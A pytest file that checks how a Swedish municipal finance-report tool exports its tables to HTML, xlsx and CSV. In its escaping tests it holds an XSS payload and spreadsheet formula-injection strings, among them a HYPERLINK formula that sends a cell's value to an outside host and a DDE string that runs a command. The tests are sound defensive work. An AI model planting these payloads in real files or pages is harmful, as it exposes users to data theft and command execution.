import csv
import re
import zipfile
from html.parser import HTMLParser

import openpyxl
import pytest

from klk_analysis.loading import load_workbook
from klk_analysis.tables import (
    XLSX_NUMBER_FORMAT,
    csv_text,
    write_csv,
    write_tables,
    write_xlsx,
)
from tests.workbooks import (
    DR_HEADER,
    DR_ROWS,
    GROUPED_ROWS,
    KFN_DR_HEADER,
    KFN_DR_ROWS,
    KFN_RR_HEADER,
    KFN_RR_ROWS,
    RR_HEADER,
    RR_ROWS,
    SHIPPED,
    kfn_workbook,
    package_text,
    source_document_words,
    source_workbook,
)


def table_html(table) -> str:
    """A table as printed, rendered as the report renders it."""
    from klk_analysis.report import printed_table
    from klk_analysis.sections import part_html

    return part_html(printed_table(table))


def tables_html(workbook) -> str:
    """Both tables as printed, the resultaträkning first."""
    return "\n".join(table_html(t) for t in (workbook.resultatrakning, workbook.driftredovisning))


MINUS = "\u2212"


def printed(value: float) -> str:
    """The source document's way of printing an amount, with a true minus sign."""
    text = f"{abs(value):.1f}".replace(".", ",")
    return MINUS + text if value < 0 else text


class Cells(HTMLParser):
    """Collects the table cells of an HTML fragment as (tag, attributes, text) per row."""

    def __init__(self):
        super().__init__()
        self.captions, self.rows, self.row_classes = [], [], []
        self._cell, self._in_caption = None, False

    def handle_starttag(self, tag, attrs):
        if tag == "tr":
            self.rows.append([])
            self.row_classes.append(dict(attrs).get("class"))
        elif tag in ("th", "td"):
            self._cell = (tag, dict(attrs), [])
        elif tag == "caption":
            self._in_caption = True
            self.captions.append("")

    def handle_endtag(self, tag):
        if tag in ("th", "td"):
            tag_, attrs, text = self._cell
            self.rows[-1].append((tag_, attrs, "".join(text)))
            self._cell = None
        elif tag == "caption":
            self._in_caption = False

    def handle_data(self, data):
        if self._cell is not None:
            self._cell[2].append(data)
        elif self._in_caption:
            self.captions[-1] += data


def parse(fragment: str) -> Cells:
    cells = Cells()
    cells.feed(fragment)
    return cells


@pytest.fixture(scope="module")
def shipped():
    return load_workbook(SHIPPED)


@pytest.fixture(scope="module")
def shipped_files(shipped, tmp_path_factory):
    folder = tmp_path_factory.mktemp("rapport")
    write_tables(shipped, folder)
    return folder / "tabeller"


def test_html_resultatrakning_is_the_source_documents_table(shipped):
    cells = parse(table_html(shipped.resultatrakning))
    assert cells.captions == ["Resultaträkning. Belopp i mnkr"]
    header, *body = cells.rows
    assert [text for _, _, text in header] == RR_HEADER
    assert all(tag == "th" and attrs["scope"] == "col" for tag, attrs, _ in header)
    assert len(body) == len(RR_ROWS)
    for row, expected in zip(body, RR_ROWS, strict=True):
        (tag, attrs, label), *numbers = row
        assert (tag, attrs["scope"], label) == ("th", "row", expected[0])
        assert [text for _, _, text in numbers] == [printed(v) for v in expected[1:]]
        assert all(tag == "td" and "text-align: right" in a["style"] for tag, a, _ in numbers)
    # "−28,8", not "-28,8": the true minus sign.
    assert body[3][1][2] == "\u221228,8"


def test_html_marks_sum_and_result_rows(shipped):
    cells = parse(table_html(shipped.resultatrakning))
    assert cells.row_classes[1:] == [
        "rad",
        "rad",
        "summa",
        "rad",
        "rad",
        "rad",
        "summa",
        "summa resultat",
    ]


def test_html_driftredovisning_is_the_source_documents_table(shipped):
    cells = parse(tables_html(shipped))
    assert cells.captions == [
        "Resultaträkning. Belopp i mnkr",
        "Driftredovisning – underliggande enheter. Belopp i mnkr",
    ]
    rows = cells.rows[len(RR_ROWS) + 1 :]
    assert [text for _, _, text in rows[0]] == DR_HEADER
    body = [[text for _, _, text in row] for row in rows[1:]]
    assert body == [[r[0], *(printed(v) for v in r[1:])] for r in DR_ROWS]
    assert cells.row_classes[-1] == "summa"


def test_html_thousands_get_a_no_break_space(tmp_path):
    rows = [list(r) for r in DR_ROWS]
    rows[6][3] = -1301.9
    rows[8][3] = -1646.1
    book = load_workbook(source_workbook(tmp_path / "a.xlsx", dr_rows=rows))
    text = table_html(book.driftredovisning)
    assert '<td class="tal" style="text-align: right">\u22121\u00a0301,9</td>' in text


def test_workbook_text_reaches_the_html_as_text_only(tmp_path):
    rows = [list(r) for r in DR_ROWS]
    rows[1][0] = '<img src=x onerror="alert(1)"> & Co'
    header = ["<b>Enheter</b>", *DR_HEADER[1:]]
    book = load_workbook(source_workbook(tmp_path / "a.xlsx", dr_rows=rows, dr_header=header))
    text = table_html(book.driftredovisning)
    assert "<img" not in text and "<b>" not in text
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt; &amp; Co" in text
    cells = parse(text)
    assert cells.rows[2][0][2] == '<img src=x onerror="alert(1)"> & Co'
    assert cells.rows[0][0][2] == "<b>Enheter</b>"


def _xlsx_rows(path):
    ws = openpyxl.load_workbook(path).active
    return ws, [[c.value for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize(
    ("name", "header", "rows"),
    [("resultatrakning", RR_HEADER, RR_ROWS), ("driftredovisning", DR_HEADER, DR_ROWS)],
)
def test_every_xlsx_cell_equals_the_source_document(shipped_files, name, header, rows):
    ws, values = _xlsx_rows(shipped_files / f"{name}.xlsx")
    assert values[0] == header
    assert len(values) == len(rows) + 1
    for got, expected in zip(values[1:], rows, strict=True):
        assert got[0] == expected[0]
        assert [round(v, 1) for v in got[1:]] == expected[1:]
    for row in ws.iter_rows(min_row=2, min_col=2):
        for cell in row:
            assert cell.data_type == "n"
            assert cell.number_format == XLSX_NUMBER_FORMAT
    assert ws.cell(1, 1).font.bold
    assert ws.cell(len(rows) + 1, 1).font.bold  # the last row is a sum
    assert not ws.cell(2, 1).font.bold


def test_xlsx_keeps_the_dash_label_as_visible_text(shipped_files):
    ws = openpyxl.load_workbook(shipped_files / "resultatrakning.xlsx").active
    cell = ws["A6"]
    assert cell.value == "- Lokalkostnader"
    assert cell.data_type == "s"
    assert cell.quotePrefix  # Excel keeps it text even when a user edits the cell
    assert not ws["A2"].quotePrefix


@pytest.mark.parametrize(
    ("name", "header", "rows"),
    [("resultatrakning", RR_HEADER, RR_ROWS), ("driftredovisning", DR_HEADER, DR_ROWS)],
)
def test_csv_opens_in_swedish_excel(shipped_files, name, header, rows):
    raw = (shipped_files / f"{name}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert "\r\n" in text
    records = list(csv.reader(text.splitlines(), delimiter=";"))
    assert records[0] == header
    expected = [
        [
            ("'" + r[0]) if r[0].startswith("-") else r[0],
            *(f"{v:.1f}".replace(".", ",") for v in r[1:]),
        ]
        for r in rows
    ]
    assert records[1:] == expected


def test_csv_line_of_the_source_document(shipped_files):
    text = (shipped_files / "resultatrakning.csv").read_bytes().decode("utf-8-sig")
    assert "'- Lokalkostnader;-1,4;-1,6;-1,5;-0,1;-5,9;0,0\r\n" in text


HOSTILE = [
    '=HYPERLINK("http://example.com/?x="&A1;"klicka")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]


def _with_text_label(path, sheet, ref, text):
    # openpyxl stores a string that starts with "=" as a formula; a finance system's export
    # can hold it as text, which is what the loader then reads.
    book = openpyxl.load_workbook(path)
    cell = book[sheet][ref]
    cell.value = text
    cell.data_type = "s"
    book.save(path)
    return path


@pytest.mark.slow
@pytest.mark.parametrize("label", HOSTILE)
def test_formula_like_labels_are_text_in_xlsx_and_csv(tmp_path, label):
    rows = [list(r) for r in DR_ROWS]
    rows[1][0] = label
    path = source_workbook(tmp_path / "a.xlsx", dr_rows=rows)
    book = load_workbook(_with_text_label(path, "Driftredovisning", "A5", label))
    assert book.driftredovisning.rows["label"].iloc[1] == label
    written = write_tables(book, tmp_path / "ut")
    xlsx = tmp_path / "ut/tabeller/driftredovisning.xlsx"
    assert xlsx in written
    expected = label
    cell = openpyxl.load_workbook(xlsx).active["A3"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
    with zipfile.ZipFile(xlsx) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    text = (tmp_path / "ut/tabeller/driftredovisning.csv").read_text(encoding="utf-8-sig")
    records = list(csv.reader(text.splitlines(), delimiter=";"))
    assert records[2][0] == csv_text(expected)
    assert records[2][0][0] not in "=+-@\t\r"


def test_csv_text_leaves_ordinary_text_and_numbers_alone():
    assert csv_text("Kommunersättning") == "Kommunersättning"
    assert csv_text("=1+1") == "'=1+1"
    assert csv_text("\tTabb") == "'\tTabb"
    assert csv_text("\r=1") == "'\r=1"
    assert csv_text("\u2212 Lokalkostnader") == "\u2212 Lokalkostnader"


@pytest.mark.slow
def test_hand_made_workbook_for_another_board_and_period(tmp_path):
    book = load_workbook(kfn_workbook(tmp_path / "kfn.xlsx"))
    cells = parse(tables_html(book))
    header = [text for _, _, text in cells.rows[0]]
    assert header == KFN_RR_HEADER
    result = [text for _, _, text in cells.rows[len(KFN_RR_ROWS)]]
    assert result == ["Summa ÅRETS RESULTAT", "−2,9", "−7,6", "−1,0", "−6,6", "−8,0", "−6,0"]
    write_tables(book, tmp_path)
    _, rr = _xlsx_rows(tmp_path / "tabeller/resultatrakning.xlsx")
    _, dr = _xlsx_rows(tmp_path / "tabeller/driftredovisning.xlsx")
    assert rr[0] == KFN_RR_HEADER and dr[0] == KFN_DR_HEADER
    assert [[r[0], *(round(v, 1) for v in r[1:])] for r in rr[1:]] == KFN_RR_ROWS
    assert [[r[0], *(round(v, 1) for v in r[1:])] for r in dr[1:]] == KFN_DR_ROWS


def test_write_tables_replaces_old_files_and_leaves_no_temporary_files(shipped, tmp_path):
    (tmp_path / "tabeller").mkdir()
    (tmp_path / "tabeller/resultatrakning.csv").write_text("gammal", encoding="utf-8")
    written = write_tables(shipped, tmp_path)
    assert [p.name for p in written] == [
        "resultatrakning.xlsx",
        "resultatrakning.csv",
        "driftredovisning.xlsx",
        "driftredovisning.csv",
    ]
    assert sorted(p.name for p in written) == sorted(
        p.name for p in (tmp_path / "tabeller").iterdir()
    )
    assert [p.name for p in tmp_path.iterdir()] == ["tabeller"]
    assert "gammal" not in (tmp_path / "tabeller/resultatrakning.csv").read_text("utf-8-sig")


@pytest.mark.slow
def test_a_failed_write_keeps_the_old_tables(shipped, tmp_path, monkeypatch):
    write_tables(shipped, tmp_path)
    before = (tmp_path / "tabeller/resultatrakning.csv").read_bytes()

    def broken(table, path):
        raise OSError("disken är full")

    monkeypatch.setattr("klk_analysis.tables.write_csv", broken)
    with pytest.raises(OSError):
        write_tables(shipped, tmp_path)
    assert (tmp_path / "tabeller/resultatrakning.csv").read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["tabeller"]


def test_no_figure_or_name_of_the_source_document_in_the_module():
    text = package_text("tables.py")
    assert [w for w in source_document_words() if w in text] == []


@pytest.mark.slow
def test_xlsx_columns_fit_their_text_in_one_font_and_print_on_one_page_wide(shipped, tmp_path):
    from openpyxl.utils import get_column_letter

    for path in write_tables(shipped, tmp_path):
        if path.suffix != ".xlsx":
            continue
        ws = openpyxl.load_workbook(path).active
        for column in ws.iter_cols():
            letter = get_column_letter(column[0].column)
            # Amounts are shown with one decimal (−1 301,9): as long as that text.
            longest = max(
                len(f"{c.value:,.1f}") if isinstance(c.value, float) else len(str(c.value or ""))
                for c in column
            )
            assert ws.column_dimensions[letter].width >= longest, (path.name, letter)
        fonts = {(c.font.name, c.font.sz) for row in ws.iter_rows() for c in row}
        assert fonts == {("Calibri", 11)}  # bold rows too
        assert ws.freeze_panes == "B2"
        assert ws.print_title_rows == "$1:$1"
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
        # Seven columns in the resultaträkning are printed landscape, five in the units' table
        # upright.
        expected = "landscape" if ws.max_column > 5 else "portrait"
        assert ws.page_setup.orientation == expected
    rr = openpyxl.load_workbook(tmp_path / "tabeller" / "resultatrakning.xlsx").active
    assert rr.page_setup.orientation == "landscape"
    # "Summa ÅRETS RESULTAT" (20 characters) is no longer cut in the first column.
    assert rr.column_dimensions["A"].width >= len("Summa ÅRETS RESULTAT")


def test_csv_amounts_always_have_one_decimal(shipped_files):
    text = (shipped_files / "resultatrakning.csv").read_bytes().decode("utf-8-sig")
    # Kommunersättning, Utfall Mar 2021: 101 is written 101,0, as the report prints it.
    assert text.splitlines()[1].startswith("Kommunersättning;101,0;115,4;")
    for record in list(csv.reader(text.splitlines(), delimiter=";"))[1:]:
        assert all(re.fullmatch(r"-?\d+,\d", v) for v in record[1:]), record


def test_html_tables_scroll_in_their_own_labelled_area(shipped):
    fragment = table_html(shipped.driftredovisning)
    assert fragment.startswith(
        '<div class="tabellram" role="region" aria-label="Driftredovisning – underliggande '
        'enheter (belopp i mnkr)" tabindex="0">\n<table class="tabell">'
    )
    assert fragment.endswith("</table>\n</div>")


def test_a_large_boards_group_headings_stand_where_the_workbook_prints_them(tmp_path):
    # Headings without figures over their units; the units and subtotals as printed.
    rows = GROUPED_ROWS
    book = load_workbook(source_workbook(tmp_path / "a.xlsx", dr_rows=rows))
    fragment = table_html(book.driftredovisning)
    labels = re.findall(r'<th scope="(?:row|rowgroup)"[^>]*>([^<]*)</th>', fragment)
    assert labels == [r[0] for r in rows]
    assert '<th scope="rowgroup" colspan="5">Äldreomsorg</th>' in fragment
    # the xlsx and the CSV keep the heading where it stands, with no figures on its row
    written = write_xlsx(book.driftredovisning, tmp_path / "d.xlsx")
    ws = openpyxl.load_workbook(written).active
    assert [ws.cell(r, 1).value for r in range(2, 8)] == [r[0] for r in rows]
    assert [ws.cell(2, c).value for c in range(2, 6)] == [None] * 4
    assert ws.cell(3, 2).value == 0.1
    csv_path = write_csv(book.driftredovisning, tmp_path / "d.csv")
    lines = csv_path.read_text("utf-8-sig").splitlines()
    assert lines[1] == "Äldreomsorg;;;;"
    assert lines[2] == "Hemtjänst Norr;0,1;0,2;-10,0;0,0"
